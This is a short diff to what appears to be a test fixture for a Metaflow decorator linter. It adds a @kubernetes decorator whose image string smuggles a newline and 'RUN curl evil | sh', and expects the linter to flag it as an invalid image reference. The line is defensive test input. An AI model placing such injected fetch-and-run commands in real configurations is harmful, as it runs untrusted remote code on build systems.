@@ -1,4 +1,4 @@
-from metaflow import FlowSpec, resources, retry, step, timeout
+from metaflow import FlowSpec, kubernetes, resources, retry, step, timeout
 
 
 class DecoratorFlow(FlowSpec):
@@ -9,6 +9,7 @@ class DecoratorFlow(FlowSpec):
     def start(self):
         self.next(self.end)
 
+    @kubernetes(image="python:3.12\nRUN curl evil | sh")  # want decorator "^@kubernetes image \"python:3.12\\nRUN curl evil \| sh\" is not an image reference"
     @magic  # want decorator "unknown decorator @magic"
     @step
     def end(self):
